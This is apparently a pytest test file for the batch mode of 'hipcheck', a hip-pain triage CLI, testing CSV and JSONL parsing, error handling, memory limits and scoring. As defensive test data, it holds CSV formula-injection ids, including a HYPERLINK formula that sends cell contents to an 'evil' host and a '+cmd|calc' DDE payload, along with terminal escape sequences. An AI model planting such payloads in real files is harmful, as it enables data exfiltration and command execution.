"""`hipcheck batch`: many answer sets in one streaming pass."""

from __future__ import annotations

import csv
import json
import math
import os
import random
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pexpect
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hipcheck.core.scoring import features, score
from hipcheck.knowledge import KnowledgeBase
from hipcheck.knowledge.when import Match, _holds_match, compile_when
from hipcheck.render import batch_lines

from .helpers import BIN, Result, examples, run
from .strategies import KB, answers

LINES = [
    {"id": "a", "location": ["outer_hip"], "triggers": ["single_leg"], "severity": 4},
    {"id": 7, "location": ["groin"], "triggers": ["squeezing_knees"], "injury": True},
    {"location": ["knee"]},
    {"id": "d", "fever": True},
]


def write_jsonl(path: Path, rows: list[Any], extra: str = "") -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows) + extra)
    return path


def test_jsonl_in_jsonl_out_with_a_bad_line(run: Any, tmp_path: Path) -> None:
    src = write_jsonl(tmp_path / "in.jsonl", LINES, extra="\nnot json\n[1]\n")
    res = run("batch", str(src))
    assert res.exit == 1
    docs = [json.loads(line) for line in res.out.splitlines()]
    assert [d.get("id") for d in docs] == ["a", "7", None, "d", None, None]
    assert [d["line"] for d in docs] == [1, 2, 3, 4, 6, 7]
    assert docs[0]["conditions"][0]["id"] == "gluteal_tendinopathy"
    assert docs[1]["triage"]["level"] == "urgent"
    assert docs[3]["triage"]["level"] == "emergency"
    assert docs[2]["error"].startswith("line 3: location: 'knee' is not allowed")
    assert "line 6: not valid JSON" in docs[4]["error"]
    assert "line 7: must be a JSON object" in docs[5]["error"]
    reported = [f"hipcheck: {d['error']}" for d in docs if "error" in d]
    assert res.err.splitlines() == [*reported, "hipcheck: 3 of 6 records failed"]
    for d in docs:
        if "error" not in d:
            assert {"schema_version", "triage", "conditions", "answers", "disclaimer"} <= set(d)


def test_csv_in_csv_out(run: Any, tmp_path: Path) -> None:
    src = tmp_path / "survey.csv"
    src.write_text(
        "id,location,triggers,severity,injury\n"
        "r1,outer_hip,single_leg;lying_on_side,4,no\n"
        "r2,groin,squeezing-knees,,yes\n"
        "r3,outer_knee,,eleven,\n"
    )
    out = tmp_path / "out.csv"
    res = run("batch", str(src), "--format", "csv", "--output", str(out))
    assert res.exit == 1 and "line 4: severity: 'eleven' is not a number" in res.err
    assert "not a diagnosis" in res.err  # the CSV has no room for the disclaimer
    rows = list(csv.DictReader(out.open()))
    assert [r["id"] for r in rows] == ["r1", "r2", "r3"]
    assert rows[0]["triage"] == "self_care" and rows[0]["condition_1"] == "gluteal_tendinopathy"
    assert rows[1]["triage"] == "urgent" and rows[1]["condition_1"] == "adductor_strain"
    assert float(rows[0]["score_1"]) > float(rows[0]["score_2"])
    assert rows[2]["error"].startswith("line 4: severity") and rows[2]["triage"] == ""


def test_the_output_suffix_picks_the_format(run: Any, tmp_path: Path) -> None:
    """`batch club.jsonl -o b.csv` wrote JSON Lines into the .csv file,
    where the README says --output picks the format from the suffix (a new
    user's review, stop 41); --format still wins."""
    src = tmp_path / "club.jsonl"
    src.write_text('{"id": "r1", "location": ["outer_hip"], "severity": 4}\n')
    for name, fmt, first in (
        ("b.csv", (), "id,"),
        ("b.jsonl", (), "{"),
        ("c.csv", ("-f", "jsonl"), "{"),
    ):
        out = tmp_path / name
        res = run("batch", str(src), *fmt, "--output", str(out))
        assert res.exit == 0, res.err
        assert out.read_text().startswith(first), (name, out.read_text()[:40])


def test_stdin_and_all_good_exit_zero(tmp_path: Path) -> None:
    data = "".join(json.dumps(r) + "\n" for r in LINES[:2])
    res = run("batch", "-", stdin=data)
    assert res.exit == 0 and res.err == ""
    assert len(res.out.splitlines()) == 2


def test_usage_errors_exit_2(run: Any, tmp_path: Path) -> None:
    bad_header = tmp_path / "h.csv"
    bad_header.write_text("id,locaton\nx,groin\n")
    cases = [
        (["batch", str(tmp_path / "nope.jsonl")], "nope.jsonl: file not found"),
        (
            ["batch", str(bad_header)],
            "CSV header: unknown question 'locaton' (did you mean 'location'?)",
        ),
        (["batch", str(bad_header), "--format", "xml"], "--format: 'xml' is not allowed"),
        (["batch", str(tmp_path / "x.txt")], "cannot tell the input format"),
    ]
    for argv, message in cases:
        res = run(*argv)
        assert res.exit == 2 and message in res.err and res.err.count("\n") == 1, res.err
    existing = tmp_path / "o.jsonl"
    existing.write_text("keep")
    src = write_jsonl(tmp_path / "in.jsonl", LINES[:1])
    res = run("batch", str(src), "-o", str(existing))
    assert res.exit == 2 and existing.read_text() == "keep"


@pytest.mark.needs_process  # a real pseudo-terminal on stderr
def test_progress_bar_on_a_terminal_keeps_the_file_clean(tmp_path: Path) -> None:
    src = write_jsonl(tmp_path / "in.jsonl", LINES[:2] * 700)  # the bar moves every 512
    out = tmp_path / "out.jsonl"
    child = pexpect.spawn(
        str(BIN / "hipcheck"),
        ["batch", str(src), "-o", str(out)],
        timeout=60,
        env={**os.environ, "TERM": "xterm"},
    )
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0
    lines = out.read_text().splitlines()
    assert len(lines) == 1400 and all(line.startswith('{"id"') for line in lines)


def _max_rss_kib(args: list[str]) -> int:
    code = textwrap.dedent(f"""
        import resource, subprocess, sys
        r = subprocess.run({args!r}, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        assert r.returncode == 0, r.stderr[-500:]
        print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
    """)
    res = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    assert res.returncode == 0, res.stderr
    return int(res.stdout)


def _generate(path: Path, n: int) -> Path:
    rnd = random.Random(n)
    locs = ["outer_hip", "groin", "buttock", "front_hip", "outer_knee", "lower_back"]
    with path.open("w") as f:
        for i in range(n):
            f.write(
                json.dumps(
                    {
                        "id": i,
                        "location": rnd.sample(locs, 2),
                        "severity": rnd.randint(0, 10),
                        "age": rnd.randint(16, 80),
                    }
                )
                + "\n"
            )
    return path


@pytest.mark.slow
@pytest.mark.needs_process  # the peak memory of a process of its own
def test_memory_stays_flat_over_200000_lines(tmp_path: Path) -> None:
    small = _generate(tmp_path / "small.jsonl", 2_000)
    big = _generate(tmp_path / "big.jsonl", 200_000)
    exe = str(BIN / "hipcheck")
    small_rss = _max_rss_kib([exe, "batch", str(small)])
    big_rss = _max_rss_kib([exe, "batch", str(big)])
    # the kept lines' budget (filled by the big run, not the small) with the
    # allocator's own share (lines of ~11 KB come and go: a 16 MB budget
    # grew the peak by 21-23 MB, an 8 MB one by 9-11 MB), and 5 MB for every
    # other table (each bounded)
    bound = batch_lines.LINES_BUDGET * 3 // 2 // 1024 + 5 * 1024  # KiB
    assert big_rss - small_rss < bound, (small_rss, big_rss)


# --- reliability review F3, F9, F10, F19 ----------------------------------------


def jsonl_out(res: Result) -> list[dict[str, Any]]:
    return [json.loads(line) for line in res.out.splitlines()]


def test_csv_header_with_a_question_twice_is_refused(tmp_path: Path) -> None:
    """`fever,fever` used to keep the last cell: `yes,no` became no fever."""
    for header in ("id,fever,fever", "id,fever,Fever", "id,id,fever"):
        src = tmp_path / "dup.csv"
        src.write_text(f"{header}\nr1,yes,no\n")
        res = run("batch", str(src), "--format", "csv")
        key = "id" if header.count("id") == 2 else "fever"
        assert res.exit == 2 and res.out == "", res.err
        assert res.err == (
            f"hipcheck: CSV header: '{key}' is given twice; give each question once\n"
        )


def test_jsonl_key_given_twice_is_an_error_record(tmp_path: Path) -> None:
    src = tmp_path / "in.jsonl"
    src.write_bytes(
        b'{"id": "r1", "fever": true, "fever": false}\n'
        b'{"id": "fever", "fever": true}\n'  # a value that names a key is not a repeat
        b'{"id": "r3", "fev\\u0065r": true, "fever": false}\n'  # nor is it hidden by escapes
        b'{"id": "r4", "fever": null, "severity": 3}\n'
    )
    docs = jsonl_out(run("batch", str(src)))
    assert docs[0] == {
        "id": "r1",
        "line": 1,
        "error": "line 1: 'fever' is given twice; give each question once",
    }
    assert docs[1]["triage"]["level"] == "emergency"
    assert docs[2]["error"] == "line 3: 'fever' is given twice; give each question once"
    assert docs[3]["answers"] == {"severity": 3}  # null: unanswered


def test_bad_lines_become_error_records_and_the_run_goes_on(tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    src = tmp_path / "in.jsonl"
    src.write_bytes(
        b'{"id": "\xff", "severity": 4}\n'  # invalid UTF-8 inside a string
        b"\x00\x01\x02\xfe binary\n"
        b'{"id": "' + b"a" * (1024 * 1024 + 10) + b'"}\n'  # longer than the line limit
        b'{"id": "good", "severity": 4}\n'
    )
    res = run("batch", str(src), "-o", str(out))
    assert res.exit == 1 and "Traceback" not in res.err
    docs = [json.loads(line) for line in out.read_text().splitlines()]
    assert [d["line"] for d in docs] == [1, 2, 3, 4]
    assert "not valid JSON" in docs[0]["error"] and "not valid JSON" in docs[1]["error"]
    assert docs[2]["error"] == "line 3: longer than the limit of 1 MB"
    assert docs[3]["id"] == "good" and "triage" in docs[3]


def csv_rows(res: Result) -> list[dict[str, str]]:
    return list(csv.DictReader(res.out.splitlines()))


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        # bare CR line endings (old Excel for Mac) are line endings
        (b"id,severity\r1,4\r2,5\r", [("1", "self_care"), ("2", "self_care")]),
        # an unclosed quote spoils its own line only: r2 is kept
        (
            b'id,location,severity\n"r1,outer_hip,4\nr2,outer_hip,5\n',
            [("", "error"), ("r2", "self_care")],
        ),
        # a cell over the csv module's 131,072 characters
        (b"id,severity\n" + b"x" * 200_000 + b",4\nr2,5\n", [("", "error"), ("r2", "self_care")]),
        # invalid UTF-8 and binary
        (
            b"id,severity\nr\xff,4\n\x00\x9b\xfe\xfe,,,\nr3,4\n",
            [("", "error"), ("", "error"), ("r3", "self_care")],
        ),
        # Excel's "CSV UTF-8" starts with a BOM
        (b"\xef\xbb\xbfid,severity\nr1,4\n", [("r1", "self_care")]),
        # a row with too few cells is an error, as one with too many: a
        # truncated red-flag column must not read as unanswered (round 4)
        (b"id,location,fever\nr1,groin,yes\nr2,groin\n", [("r1", "emergency"), ("", "error")]),
    ],
)
def test_awkward_csv(tmp_path: Path, data: bytes, expected: list[tuple[str, str]]) -> None:
    src = tmp_path / "in.csv"
    src.write_bytes(data)
    res = run("batch", str(src), "--format", "csv")
    assert "Traceback" not in res.err and res.exit in (0, 1), res.err
    rows = csv_rows(res)
    got = [(r["id"], "error" if r["error"] else r["triage"]) for r in rows]
    assert got == expected
    assert res.exit == (1 if any(e == "error" for _, e in expected) else 0)


def test_jsonl_with_a_bom_is_read(tmp_path: Path) -> None:
    src = tmp_path / "in.jsonl"
    src.write_bytes(b'\xef\xbb\xbf{"id": "r1", "severity": 4}\n')
    res = run("batch", str(src))
    assert res.exit == 0 and jsonl_out(res)[0]["id"] == "r1"


def test_csv_on_stdin_is_read_as_csv_and_says_so() -> None:
    res = run("batch", "-", stdin=b"id,location\nr1,groin\n")
    hint = (
        "hipcheck: standard input starts with a CSV header: read as CSV "
        "(give --input-format jsonl to read it as JSON Lines)\n"
    )
    assert res.exit == 0 and res.err.startswith(hint)
    assert jsonl_out(res)[0]["id"] == "r1"
    res = run("batch", "-", "--input-format", "csv", stdin=b"id,location\nr1,groin\n")
    assert res.exit == 0 and hint not in res.err
    res = run("batch", "-", stdin=b'{"id": "a,b", "location": ["groin"]}\n')
    assert res.exit == 0 and res.err == ""
    res = run("batch", "-", "--format", "csv", "--input-format", "csv",
              stdin=b"id,location\nr1,groin\n")  # fmt: skip
    assert res.err.startswith("hipcheck is not a diagnosis")  # a note, not an error


IDS = ['=HYPERLINK("http://evil/?x="&A1)', "+cmd|calc", "-2+3", "@SUM(A1)", "\tx", "\rx", "ok"]


def test_csv_output_neutralises_formulas_in_ids(tmp_path: Path) -> None:
    src = write_jsonl(tmp_path / "in.jsonl", [{"id": i, "severity": 4} for i in IDS])
    rows = csv_rows(run("batch", str(src), "--format", "csv"))
    assert [r["id"] for r in rows] == ["'" + i for i in IDS[:4]] + ["\\u0009x", "\\u000dx", "ok"]


ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x9b31m\x9d\u202e\x00\x7f"


def test_control_characters_in_ids_never_reach_the_output_raw(tmp_path: Path) -> None:
    src = write_jsonl(
        tmp_path / "in.jsonl",
        [{"id": ESCAPES, "severity": 4}, {"id": ESCAPES, "location": ESCAPES}],
    )
    raw = "".join(chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)] if chr(c) != "\n") + "\u202e"
    for fmt in ("jsonl", "csv"):
        res = run("batch", str(src), "--format", fmt)
        out, err = res.out, res.err
        assert not any(ch in out for ch in raw), (fmt, out[:300])
        assert not any(ch in err for ch in raw), (fmt, err)
    docs = jsonl_out(run("batch", str(src)))
    assert docs[0]["id"] == ESCAPES  # JSON escapes: the same id once decoded
    rows = csv_rows(run("batch", str(src), "--format", "csv"))
    assert rows[0]["id"] == "\\u001b]0;PWNED\\u0007\\u001b[2J\\u009b31m\\u009d\\u202e\\u0000\\u007f"


def test_a_bad_csv_header_writes_nothing(tmp_path: Path) -> None:
    src = tmp_path / "bad.csv"
    src.write_bytes(b'"id,severity\nr1,4\n')
    res = run("batch", str(src), "--format", "csv")
    assert res.exit == 2 and res.out == ""
    assert res.err.startswith("hipcheck: CSV header: line 1: ")


# --- the speed-ups keep the results (batch throughput, issue 11) ---------------


def _reference_score(kb: KnowledgeBase, answers: dict[str, Any]) -> list[tuple[Any, ...]]:
    """docs/scoring.md written out plainly: ln prior, the prior cells of the
    runner's regions (averaged), age and sex (with the age not given, ln of
    each outcome's age ratios averaged over `unknown_age.mix`); the ln ratios of the answers in
    order, a cluster's answers combined (strongest in full, the rest by
    `rest`, capped); unticked expected choices (by default the strong,
    never one ticked only if already noticed) against; for the other outcome,
    an answer no condition explains at R / max(floor, (1 - pi R) / (1 - pi))
    and x `unlinked` when the pain has no link to running; softmax of
    logit / temperature + bias over the conditions and the other outcome;
    evidence strongest first (ties in answer order), conditions most likely
    first (ties in file order)."""
    r = kb.ranking
    outcomes = [(c.id, c.prior, c.weights) for c in kb.conditions]
    if r.other.prior > 0:
        outcomes.append(("other", r.other.prior, r.other.weights))
    logits = [math.log(p) for _, p, _ in outcomes]
    loc = answers.get("location") or ()
    regions = {rid for rid, locs in r.regions.items() if set(locs) & set(loc)}
    age, sex = answers.get("age"), answers.get("sex")
    for cell in r.priors:
        if cell.sex != "any" and cell.sex != sex:
            continue
        limited = cell.min_age > 0 or cell.max_age < 200
        if (age is None and limited) or (
            age is not None and not cell.min_age <= age <= cell.max_age
        ):
            continue
        if cell.region != "any" and cell.region not in regions:
            continue
        share = 1 if cell.region == "any" else 1 / len(regions)
        for i, (cid, _, _) in enumerate(outcomes):
            logits[i] += share * math.log(cell.factors.get(cid, 1.0))
    if age is None and r.unknown_age.mix:  # each age ratio averaged over runners' ages
        for i, (_, _, w) in enumerate(outcomes):
            mean = sum(s * w.get(f"age.{b}", 1.0) for b, s in r.unknown_age.mix.items())
            logits[i] += math.log(mean)
    cluster_of = {key: cl for cl in r.clusters for key in cl.answers}
    grouped: dict[str, list[list[float]]] = {}
    pro: list[list[tuple[str, str, float]]] = [[] for _ in kb.conditions]
    con: list[list[tuple[str, str, float]]] = [[] for _ in kb.conditions]
    pi = r.other.prior / sum(p for _, p, _ in outcomes)
    for qid, value in features(kb, answers):
        key = f"{qid}.{value}"
        ratios = [w.get(key, 1.0) for _, _, w in outcomes]
        if len(outcomes) > len(kb.conditions) and ratios[-1] > 1 and max(ratios[:-1]) <= 1:
            # no condition explains it: the other outcome's ratio against them
            k = (1 - pi * ratios[-1]) / (1 - pi)
            ratios[-1] /= max(r.other.unexplained_floor, k)
        if key in cluster_of:
            grouped.setdefault(cluster_of[key].id, []).append([math.log(x) for x in ratios])
        else:
            logits = [a + math.log(x) for a, x in zip(logits, ratios, strict=True)]
        for i in range(len(kb.conditions)):
            if ratios[i] != 1 and f"{qid}.{value}" in kb.conditions[i].weights:
                (pro if ratios[i] > 1 else con)[i].append((qid, value, ratios[i]))
    for cl in r.clusters:
        rows = grouped.get(cl.id)
        if not rows:
            continue
        cap = math.log(cl.cap)
        for i in range(len(outcomes)):
            column = [row[i] for row in rows]
            pos = sorted((x for x in column if x > 0), reverse=True)
            neg = sorted(x for x in column if x < 0)
            total = (pos[0] + cl.rest * sum(pos[1:]) if pos else 0) + (
                neg[0] + cl.rest * sum(neg[1:]) if neg else 0
            )
            logits[i] += min(cap, max(-cap, total))
    u = r.unticked
    if u.ratio < 1:
        for q in kb.questions:
            ticked = answers.get(q.id)
            if q.kind != "several" or not ticked or (u.questions and q.id not in u.questions):
                continue
            untested = {ch.id for ch in q.choices if ch.noticed_only}  # never counted
            for i, c in enumerate(kb.conditions):
                named = u.expected.get(c.id)
                strong = [
                    (c.weights.get(f"{q.id}.{v}", 1.0), v)
                    for v in q.values
                    if v not in untested
                    and (
                        c.weights.get(f"{q.id}.{v}", 1.0) >= u.min_ratio
                        if named is None
                        else f"{q.id}.{v}" in named
                    )
                ]
                if strong and not {v for _, v in strong} & set(ticked):
                    logits[i] += math.log(u.ratio)
                    con[i].append((q.id, max(strong)[1], u.ratio))
    given = set(f"{q}.{v}" for q, v in features(kb, answers))
    asked = {key.partition(".")[0] for key in r.other.running}
    if (
        len(outcomes) > len(kb.conditions)
        and all(answers.get(q) not in (None, ()) for q in asked)
        and not given & set(r.other.running)
    ):
        logits[-1] += math.log(r.other.unlinked)  # pain with no link to running
    cal = r.calibration
    z = [
        v / cal.temperature + cal.bias.get(cid, 0.0)
        for v, (cid, _, _) in zip(logits, outcomes, strict=True)
    ]
    top = max(z)
    exps = [math.exp(v - top) for v in z]
    rows = [
        (
            c.id,
            exps[i] / sum(exps),
            sorted(pro[i], key=lambda e: -e[2]),
            sorted(con[i], key=lambda e: e[2]),
        )
        for i, c in enumerate(kb.conditions)
    ]
    return sorted(rows, key=lambda r: -r[1])


@pytest.mark.slow  # a property over hundreds of examples: the full run has it
@examples(300)
@given(answers())
def test_scoring_matches_its_plain_definition(given_answers: dict[str, Any]) -> None:
    got = [
        (
            s.id,
            s.score,
            [(e.question, e.value, e.ratio) for e in s.evidence_for],
            [(e.question, e.value, e.ratio) for e in s.evidence_against],
        )
        for s in score(KB, given_answers)
    ]
    want = _reference_score(KB, given_answers)
    assert [g[0] for g in got] == [w[0] for w in want] or [g[1] for g in got] == pytest.approx(
        [w[1] for w in want], rel=1e-9
    )
    assert [g[1] for g in got] == pytest.approx([w[1] for w in want], rel=1e-9, abs=1e-12)
    assert [g[2:] for g in sorted(got)] == [w[2:] for w in sorted(want)]


_VALUES = ["a", "b", "c"]
_maybe_values = st.none() | st.lists(st.sampled_from(_VALUES), max_size=3).map(tuple)
_maybe_number = st.none() | st.integers(-5, 15).map(float)
matches_strategy = st.builds(
    Match,
    any=_maybe_values,
    all=_maybe_values,
    none=_maybe_values,
    min=_maybe_number,
    max=_maybe_number,
    answered=st.none() | st.booleans(),
)
answer_values = (
    st.none()
    | st.booleans()
    | st.sampled_from(_VALUES)
    | st.lists(st.sampled_from(_VALUES), max_size=3).map(tuple)
    | st.integers(-5, 15)
    | st.floats(-5, 15)
)


@pytest.mark.slow  # a property over hundreds of examples: the full run has it
@examples(1000)
@given(matches_strategy, answer_values)
def test_compiled_match_tests_agree_with_their_definition(m: Match, value: Any) -> None:
    answers = {} if value is None else {"q": value}
    assert compile_when({"q": m})(answers) == _holds_match(m, value)


def test_an_id_must_be_short_text_or_a_number(tmp_path: Path) -> None:
    """Round 4 (an adversary's review): a list, object or true as an id came
    out as a Python repr ("['x']", "True"), and a 500,000-character id made
    a CSV Python's own reader refuses. Text and numbers are ids; anything
    else, or over 200 characters, is that line's error."""
    src = tmp_path / "ids.jsonl"
    lines = [
        {"id": "r1", "severity": 4},
        {"id": 7, "severity": 4},
        {"id": ["x"], "severity": 4},
        {"id": True, "severity": 4},
        {"id": {"a": 1}, "severity": 4},
        {"id": "x" * 201, "severity": 4},
        {"id": "x" * 200, "severity": 4},
    ]
    src.write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf-8")
    res = run("batch", str(src))
    assert res.exit == 1 and "Traceback" not in res.err
    docs = jsonl_out(res)
    assert [d.get("id") for d in docs[:2]] == ["r1", "7"] and "triage" in docs[1]
    for d in docs[2:5]:
        assert d["id"] is None and d["error"].endswith("the id must be text or a number")
    assert docs[5]["error"].endswith("the id is longer than 200 characters")
    assert "triage" in docs[6]
    csv_src = tmp_path / "ids.csv"
    csv_src.write_text("id,severity\n" + "y" * 201 + ",4\nr2,4\n", encoding="utf-8")
    rows = csv_rows(run("batch", str(csv_src), "--format", "csv"))
    assert rows[0]["error"].endswith("the id is longer than 200 characters")
    assert rows[1]["id"] == "r2" and rows[1]["triage"] == "self_care"


def test_a_line_nested_too_deeply_is_said_in_our_words(tmp_path: Path) -> None:
    """Round 4: the decoder's own "maximum recursion depth exceeded while
    deserializing an object" reached the user."""
    src = tmp_path / "deep.jsonl"
    src.write_text('{"a":' * 2000 + "1" + "}" * 2000 + '\n{"id": "ok", "severity": 2}\n')
    res = run("batch", str(src))
    docs = jsonl_out(res)
    assert docs[0]["error"] == "line 1: nested too deeply" and "recursion" not in res.err
    assert docs[1]["id"] == "ok" and "triage" in docs[1]


def test_an_input_with_no_records_says_so(tmp_path: Path) -> None:
    """Round 4: an empty input exited 0 with only a CSV header, silently (a
    script fed the wrong file could not tell). Still exit 0: nothing failed."""
    empty = tmp_path / "empty.jsonl"
    empty.write_text("\n\n", encoding="utf-8")
    res = run("batch", str(empty), "--format", "csv")
    assert res.exit == 0 and res.out.startswith("id,line,")
    assert res.err == "hipcheck: batch: the input holds no records\n"
